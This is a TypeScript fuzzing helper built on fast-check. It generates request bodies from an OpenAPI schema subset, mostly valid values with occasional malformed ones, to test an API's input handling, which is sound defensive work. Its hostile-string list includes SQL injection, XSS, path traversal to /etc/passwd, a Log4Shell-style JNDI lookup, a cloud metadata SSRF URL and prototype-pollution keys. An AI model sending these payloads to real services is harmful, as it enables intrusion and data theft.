import fc from 'fast-check';

/** The part of JSON Schema that the OpenAPI document uses. */
export interface Schema {
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly additionalProperties?: boolean | Schema;
  readonly propertyNames?: Schema;
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly allOf?: readonly Schema[];
  readonly pattern?: string;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly maxItems?: number;
}

/** Values of valid requests. Without them no request would get past a route's first check. */
const KNOWN_STRINGS = ['passport-only', 'document', 'en', '7.0.0', 'DEU', 'UTO', 'First name', '2026-11-20T10:00:00Z'];
const HEX_64 = fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: 64, maxLength: 64 });

/** Strings that have broken services: encodings, lengths, protocols, prototypes, text that looks like numbers. */
const HOSTILE_STRINGS = [
  '',
  ' ',
  '\0',
  '\ud800',
  '\u202e\u200b\ufeff',
  '🏴‍☠️'.repeat(50),
  'a'.repeat(10_000),
  '__proto__',
  'constructor',
  '../../../etc/passwd',
  '%00%2e%2e%2f',
  "' or 1=1 --",
  '<script>alert(1)</script>',
  '${jndi:ldap://198.51.100.1/a}',
  'javascript:alert(1)',
  'https://user:password@198.51.100.1/',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  '12h',
  '-1',
  '1e9',
  'NaN',
  '99999999999999999999',
  '0x10',
  '２０２６',
];
const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  -1,
  0,
  1e9,
  1e308,
  -1e308,
  0.1,
  2 ** 53,
  [],
  {},
  [[[[[[]]]]]],
  { __proto__: null, toString: 1 },
];

export const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
const hostileValue = fc.oneof(
  hostileString,
  fc.constantFrom<unknown>(...HOSTILE_VALUES),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Values that mostly match the schema; at every level, any field is sometimes something else. */
export function fromSchema(schema: Schema, known: readonly string[], depth = 0): fc.Arbitrary<unknown> {
  const fitting = fits(schema, known, depth);
  return fc.oneof({ weight: 12, arbitrary: fitting }, { weight: 1, arbitrary: hostileValue });
}

function fits(schema: Schema, known: readonly string[], depth: number): fc.Arbitrary<unknown> {
  if (depth > 6) return fc.constant(null);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf ?? schema.allOf;
  if (choices?.length) return fc.oneof(...choices.map((choice) => fromSchema(choice, known, depth + 1)));
  const type = typeof schema.type === 'string' ? schema.type : schema.type?.[0];
  switch (type) {
    case 'object':
      return objectOf(schema, known, depth);
    case 'array':
      return fc.array(fromSchema(schema.items ?? {}, known, depth + 1), {
        maxLength: Math.min(3, schema.maxItems ?? 3),
      });
    case 'integer':
    case 'number':
      return numberOf(schema);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'string':
      return stringOf(schema, known);
    default:
      return hostileValue;
  }
}

function objectOf(
  { properties = {}, required = [], additionalProperties, propertyNames }: Schema,
  known: readonly string[],
  depth: number,
) {
  const own = fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, each]) => [name, fromSchema(each, known, depth + 1)])),
    // A required field is missing one time in ten.
    { requiredKeys: [] },
  );
  const whole = fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, each]) => [name, fromSchema(each, known, depth + 1)])),
    { requiredKeys: required.filter((name) => name in properties) },
  );
  const free = typeof additionalProperties === 'object' || Object.keys(properties).length === 0;
  const extra = free
    ? fc.dictionary(
        propertyNames?.enum ? fc.constantFrom(...(propertyNames.enum as string[])) : hostileString,
        fromSchema(typeof additionalProperties === 'object' ? additionalProperties : {}, known, depth + 1),
        { maxKeys: 4 },
      )
    : fc.oneof(
        { weight: 9, arbitrary: fc.constant({}) },
        { weight: 1, arbitrary: fc.dictionary(hostileString, fc.jsonValue(), { maxKeys: 2 }) },
      );
  return fc
    .tuple(fc.oneof({ weight: 9, arbitrary: whole }, { weight: 1, arbitrary: own }), extra)
    .map(([fields, more]) => ({ ...(more as object), ...(fields as object) }));
}

function numberOf({ minimum = 0, maximum = 100 }: Schema): fc.Arbitrary<number> {
  return fc.oneof(
    fc.integer({ min: Math.ceil(minimum), max: Math.min(Math.floor(maximum), 2 ** 31 - 1) }),
    fc.constantFrom(minimum - 1, minimum, maximum, maximum + 1, 0.5, -0, 1e9),
  );
}

function stringOf({ pattern, minLength = 0, maxLength = 64 }: Schema, known: readonly string[]): fc.Arbitrary<string> {
  const short = fc.string({ minLength: Math.min(minLength, 200), maxLength: Math.min(maxLength, 200) });
  const long = fc.constant('x'.repeat(Math.min(maxLength, 100_000) + 1));
  const familiar = fc.constantFrom(...KNOWN_STRINGS, ...known);
  const shaped = pattern?.includes('{64}')
    ? HEX_64
    : pattern?.includes('[A-Z]{3}')
      ? fc.constantFrom('DEU', 'UTO')
      : familiar;
  return fc.oneof({ weight: 6, arbitrary: shaped }, { weight: 3, arbitrary: short }, { weight: 1, arbitrary: long });
}
